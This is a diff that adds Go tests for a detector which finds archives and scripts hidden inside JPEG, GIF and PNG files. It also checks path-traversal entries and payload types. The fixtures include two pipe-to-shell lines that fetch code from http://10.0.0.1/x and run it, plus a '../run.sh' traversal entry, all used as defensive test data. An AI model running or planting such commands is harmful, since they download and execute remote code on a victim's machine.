@@ -0,0 +1,205 @@
+package carve
+
+import (
+	"os"
+	"path/filepath"
+	"slices"
+	"testing"
+
+	"DeSteGo/internal/fixtures"
+	"DeSteGo/pkg/analyzer"
+	"DeSteGo/pkg/models"
+)
+
+func TestScanFixtures(t *testing.T) {
+	tests := []struct {
+		name  string
+		clean string // The fixture's carrier without the archive, empty for clean fixtures
+	}{
+		{"appended_zip.jpg", "clean.jpg"},
+		{"appended_zip.gif", "clean.gif"},
+		{"clean.jpg", ""},
+		{"clean.gif", ""},
+		{"clean.png", ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			data, err := fixtures.Load(tt.name)
+			if err != nil {
+				t.Fatal(err)
+			}
+			var zips []Match
+			for _, m := range Scan(data) {
+				if m.Type == "zip" {
+					zips = append(zips, m)
+				}
+			}
+
+			if tt.clean == "" {
+				if len(zips) > 0 {
+					t.Errorf("found a ZIP archive at offset %d of a clean carrier", zips[0].Offset)
+				}
+				// The end marker is the last thing in a clean PNG or JPEG
+				if kind := Identify(data); kind == "png" || kind == "jpg" {
+					if end := ImageEnd(data); end != len(data) {
+						t.Errorf("image ends at %d, want %d", end, len(data))
+					}
+				}
+				return
+			}
+
+			carrier, err := fixtures.Load(tt.clean)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if len(zips) != 1 || zips[0].Offset != len(carrier) || zips[0].End != len(data) {
+				t.Fatalf("found ZIP archives %+v, want one at %d-%d", zips, len(carrier), len(data))
+			}
+
+			fixture, _ := fixtures.Lookup(tt.name)
+			entries, err := ListZIP(data[zips[0].Offset:])
+			if err != nil {
+				t.Fatalf("failed to list archive: %v", err)
+			}
+			if len(entries) != 1 || entries[0].Name != fixture.Parameters["entry"] || entries[0].Size != uint64(len(fixture.Payload)) {
+				t.Errorf("archive lists %+v, want %s of %d bytes", entries, fixture.Parameters["entry"], len(fixture.Payload))
+			}
+		})
+	}
+}
+
+func TestAnalyzeZIP(t *testing.T) {
+	carrier, err := fixtures.Load("clean.jpg")
+	if err != nil {
+		t.Fatal(err)
+	}
+	script := []byte("#!/bin/sh\ncurl -s http://10.0.0.1/x | sh\n")
+
+	tests := []struct {
+		name       string
+		entry      string
+		suspicious bool
+		extracted  bool
+	}{
+		{"shell script", "run.sh", true, true},
+		{"script in a directory", "tools/Update.PS1", true, true},
+		{"text file", "notes.txt", false, true},
+		{"path outside the output directory", "../run.sh", true, false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			archive, err := fixtures.ZIP(tt.entry, script)
+			if err != nil {
+				t.Fatal(err)
+			}
+			data := append(append([]byte{}, carrier...), archive...)
+
+			dir := t.TempDir()
+			result := &models.AnalysisResult{Details: map[string]interface{}{}}
+			options := analyzer.AnalysisOptions{Extract: true, OutputDir: dir}
+			AnalyzeEmbeddedFiles(data, "jpg", filepath.Join("in", "polyglot.jpg"), options, result)
+
+			if names, _ := result.Details["zip_entries"].([]string); !slices.Equal(names, []string{tt.entry}) {
+				t.Errorf("got entries %q, want %q", names, tt.entry)
+			}
+			var suspicious bool
+			for _, f := range result.Findings {
+				if f.Description == "Embedded archive contains suspicious entry "+tt.entry {
+					suspicious = true
+				}
+			}
+			if suspicious != tt.suspicious {
+				t.Errorf("suspicious entry reported %v, want %v; findings %v", suspicious, tt.suspicious, result.Findings)
+			}
+
+			written, err := os.ReadFile(filepath.Join(dir, "polyglot_zip", tt.entry))
+			if extracted := err == nil && string(written) == string(script); extracted != tt.extracted {
+				t.Errorf("entry extracted %v, want %v (%v)", extracted, tt.extracted, err)
+			}
+		})
+	}
+}
+
+func TestAnalyzePrefix(t *testing.T) {
+	tests := []struct {
+		name    string
+		fixture string
+		host    string
+		prefix  string
+		kind    string // Empty when no prefix should be found
+		valid   bool
+		ext     string
+	}{
+		{"shell script", "clean.png", "png", "#!/bin/bash\ncurl -s http://10.0.0.1/x | bash\nexit 0\n", "script (bash)", true, "sh"},
+		{"env script", "clean.png", "png", "#!/usr/bin/env python3\nprint('hi')\n", "script (python3)", true, "sh"},
+		{"HTML page", "clean.jpg", "jpg", "<!DOCTYPE html><html><body>hello</body></html>\n", "HTML document", true, "html"},
+		{"plain text", "clean.png", "png", "just some notes\n", "text", false, "txt"},
+		{"no prefix", "clean.png", "png", "", "", false, ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			image, err := fixtures.Load(tt.fixture)
+			if err != nil {
+				t.Fatal(err)
+			}
+			data := append([]byte(tt.prefix), image...)
+
+			prefix := FindPrefix(data, tt.host)
+			if tt.kind == "" {
+				if prefix != nil {
+					t.Fatalf("got prefix %+v, want none", prefix)
+				}
+				return
+			}
+			want := Prefix{Offset: len(tt.prefix), Kind: tt.kind, Ext: tt.ext, Valid: tt.valid}
+			if prefix == nil || *prefix != want {
+				t.Fatalf("got prefix %+v, want %+v", prefix, want)
+			}
+
+			dir := t.TempDir()
+			result := &models.AnalysisResult{FileType: tt.host, Details: map[string]interface{}{}}
+			options := analyzer.AnalysisOptions{Extract: true, OutputDir: dir}
+			AnalyzePrefix(data, prefix, filepath.Join("in", "polyglot."+tt.host), options, result)
+			AnalyzeEmbeddedFiles(data, tt.host, filepath.Join("in", "polyglot."+tt.host), options, result)
+
+			var found []string
+			for _, f := range result.Findings {
+				found = append(found, f.Description)
+			}
+			if len(found) != 1 || result.Details["prepended_bytes"] != len(tt.prefix) || result.Details["prepended_type"] != tt.kind {
+				t.Errorf("got findings %q with details %v, want only the prepended %s", found, result.Details, tt.kind)
+			}
+			carved, err := os.ReadFile(filepath.Join(dir, "polyglot_prepended."+tt.ext))
+			if err != nil || string(carved) != tt.prefix {
+				t.Errorf("got carved prefix %q (%v), want %q", carved, err, tt.prefix)
+			}
+		})
+	}
+}
+
+func TestSniffPayload(t *testing.T) {
+	tests := []struct {
+		name      string
+		data      string
+		fileType  string
+		extension string
+		mimeType  string
+	}{
+		{"empty", "", "", "bin", "application/octet-stream"},
+		{"one letter", "B", "", "txt", "text/plain; charset=utf-8"},
+		{"NUL byte", "\x00", "", "bin", "application/octet-stream"},
+		{"two bytes of gzip", "\x1f\x8b", "", "bin", "application/octet-stream"},
+		{"three bytes of ZIP", "PK\x03", "", "bin", "application/octet-stream"},
+		{"GIF", "GIF89a\x01\x00\x01\x00\x00\x00\x00", "gif", "gif", "image/gif"},
+		{"gzip", "\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03", "gz", "gz", "application/gzip"},
+		{"shell script", "#!/bin/sh\necho hi\n", "sh", "sh", "text/x-shellscript"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			fileType, extension, mimeType := SniffPayload([]byte(tt.data))
+			if fileType != tt.fileType || extension != tt.extension || mimeType != tt.mimeType {
+				t.Errorf("got %q, %q, %q, want %q, %q, %q", fileType, extension, mimeType, tt.fileType, tt.extension, tt.mimeType)
+			}
+		})
+	}
+}